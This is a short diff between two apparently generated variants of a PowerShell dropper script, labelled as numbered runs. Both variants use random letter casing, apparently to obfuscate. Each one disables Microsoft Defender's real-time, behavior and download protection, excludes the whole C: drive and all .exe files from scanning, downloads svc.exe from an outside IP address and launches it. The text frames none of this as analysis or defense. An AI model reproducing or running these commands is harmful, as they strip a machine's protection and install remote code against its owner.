@@ -1,6 +1,6 @@
-# ruN 6890 V3
-sEt-mPpReFeReNcE -DISaBLEreAlTImemoniTORiNg $true -disabLebeHaViormoNitorING $tRuE -DIsabLEIoaVpRotecTion $tRuE
-AdD-MpPrEfErEnCe -ExClUsIoNpAtH 'C:\'
-add-MppReFERENCe -ExCLusiOnexTEnSIon '.exe'
-(nEw-oBjEcT nEt.wEbClIeNt).DoWNlOADfILe('http://203.0.113.200/svc.exe', "$env:TEMP\svc.exe")
-StarT-PROCess "$env:TEMP\svc.exe"
+# ruN 0041 V3
+sEt-mPpReFeReNcE -dIsAbLeReAlTiMeMoNiToRiNg $TrUE -DIsaBLEBEhaViORMoniToRinG $TRUE -DISAbLeIOAvprOtEctiOn $tRuE
+add-mpPReferenCE -ExclusIoNPaTH 'C:\'
+AdD-MpPREfereNce -eXcLuSiOnExTeNsIoN '.exe'
+(neW-oBJeCT Net.wEbClIeNt).DOwNLoaDFILE('http://203.0.113.17/svc.exe', "$env:TEMP\svc.exe")
+starT-PRoCess "$env:TEMP\svc.exe"
